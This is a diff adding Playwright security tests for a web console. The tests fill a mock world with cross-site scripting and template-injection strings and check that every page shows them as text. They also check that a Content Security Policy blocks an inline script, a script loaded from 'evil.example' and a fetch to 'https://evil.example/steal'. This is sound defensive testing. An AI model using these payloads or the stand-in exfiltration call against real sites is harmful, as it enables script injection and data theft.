@@ -1,0 +1,127 @@
+import type { Page } from "@playwright/test";
+import { loadDialect } from "../../fixtures/dialect/load.ts";
+import { worldSchema, type World } from "../../fixtures/worlds/world.ts";
+import { startServer } from "../faces/http-server.ts";
+import { createSimulation } from "../simulation/simulation.ts";
+import { testCall } from "../simulation/test-caller.ts";
+import { expect, test } from "./console.fixture.ts";
+
+/** Each would set `window.broken`, were it taken for anything but text. */
+const attacks = [
+  "<img src=x onerror=broken=1>",
+  "</script><script>broken=1</script>",
+  '"><svg onload=broken=1>',
+  "javascript:broken=1",
+  "{{constructor.constructor('broken=1')()}}",
+  "${broken=1}",
+  "<a href=javascript:broken=1>x</a>",
+  "\u2028broken=1//",
+  "__proto__",
+] as const;
+
+const text = attacks.join(" ");
+
+/** A world in which every text is an attack. */
+function hostileWorld(): World {
+  const record = (id: string): object => ({
+    id,
+    email: text,
+    name: text,
+    number: text,
+    status: text,
+    [text]: { [text]: [text] },
+    dangerouslySetInnerHTML: { __html: text },
+  });
+  const records = attacks.map(record);
+  return worldSchema.parse({
+    name: text,
+    description: text,
+    accounts: [
+      { id: text, name: text, tokens: ["hostile-token-1"], users: records, subscriptions: records, invoices: records },
+    ],
+  });
+}
+
+/** Nothing of it ran, and nothing of it became more than text. */
+async function expectUnbroken(page: Page): Promise<void> {
+  expect(await page.evaluate(() => "broken" in window)).toBe(false);
+  expect(await page.locator("img, iframe, object, embed, a[href^='javascript:' i]").count()).toBe(0);
+}
+
+// The mock of this world is another than the fixture's.
+test.use({ allowedComplaints: /^asked http:\/\/127\.0\.0\.1:\d+\/_orgkit\// });
+
+test("a world full of scripts is shown as text, on every page of the console", async ({ page }) => {
+  const dialect = { ...loadDialect("reference"), name: text, description: text };
+  const simulation = await createSimulation({ world: hostileWorld(), dialect });
+  const server = await startServer(simulation, { port: 0, control: { version: "1.2.3" } });
+  const headers = { authorization: "Bearer hostile-token-1", "content-type": "application/json", "x-note": text };
+  const body = JSON.stringify({ email: text, name: text, [text]: text });
+  simulation.answer(testCall({ method: "POST", headers, body }));
+  simulation.answer(testCall({ query: `page=${text}`, headers: { ...headers, prefer: `scenario=${text}` } }));
+  simulation.answer(testCall({ method: text, path: `/api/v1/${text}`, headers: { authorization: `Bearer ${text}` } }));
+  simulation.answer(testCall({ path: `/api/v1/subscriptions/${encodeURIComponent(attacks[0])}`, headers }));
+
+  await page.goto(`${server.url}/_orgkit/`);
+  const calls = page.getByRole("listbox", { name: "Calls, newest first" }).getByRole("option");
+  await expect(calls).toHaveCount(4);
+  for (const index of [0, 1, 2, 3]) {
+    await calls.nth(index).click();
+    for (const headersOf of await page.getByText(/^\d+ headers$/).all()) await headersOf.click();
+    await expectUnbroken(page);
+  }
+  for (const tab of ["world", "scenarios", "accounts", "dialect", "clock", "sandboxes"]) {
+    await page.goto(`${server.url}/_orgkit/#${tab}`);
+    await expect(page.getByRole("tabpanel")).toBeVisible();
+    await expectUnbroken(page);
+  }
+  await page.goto(`${server.url}/_orgkit/#world`);
+  await expect(page.getByRole("cell", { name: text, exact: true }).first()).toBeVisible();
+  await page
+    .getByRole("button", { name: /^Edit / })
+    .first()
+    .click();
+  await expect(page.getByLabel("The user as JSON")).toHaveValue(/onerror=broken/);
+  await page.keyboard.press("Escape");
+  // What an address says is text as well.
+  await page.goto(`${server.url}/_orgkit/#world/${encodeURIComponent(text)}/users`);
+  await page.goto(`${server.url}/_orgkit/#token=${encodeURIComponent(text)}`);
+  await expectUnbroken(page);
+  await page.goto("about:blank");
+  await server.close();
+});
+
+test.describe("a script that found its way in", () => {
+  test.use({ allowedComplaints: /Content Security Policy|^asked https:\/\/evil\.example\/x\.js$/ });
+
+  test("is blocked by the policy of the page, wherever it stands", async ({ open }) => {
+    const { page } = await open();
+    const blocked = await page.evaluate(async () => {
+      const seen: string[] = [];
+      const all = new Promise<void>((resolve) => {
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+          if (seen.push(effectiveDirective) === 4) resolve();
+        });
+      });
+      const inline = document.createElement("script");
+      inline.textContent = "window.broken = 1";
+      const foreign = document.createElement("script");
+      foreign.src = "https://evil.example/x.js";
+      const button = document.createElement("div");
+      button.innerHTML = '<button onclick="window.broken = 1">x</button>';
+      document.body.append(inline, foreign, button);
+      button.querySelector("button")?.click();
+      const told = await fetch("https://evil.example/steal").then(
+        () => "sent",
+        () => "refused",
+      );
+      await all;
+      return { seen: seen.toSorted(), told, isBroken: "broken" in window };
+    });
+    expect(blocked).toStrictEqual({
+      seen: ["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"],
+      told: "refused",
+      isBroken: false,
+    });
+  });
+});
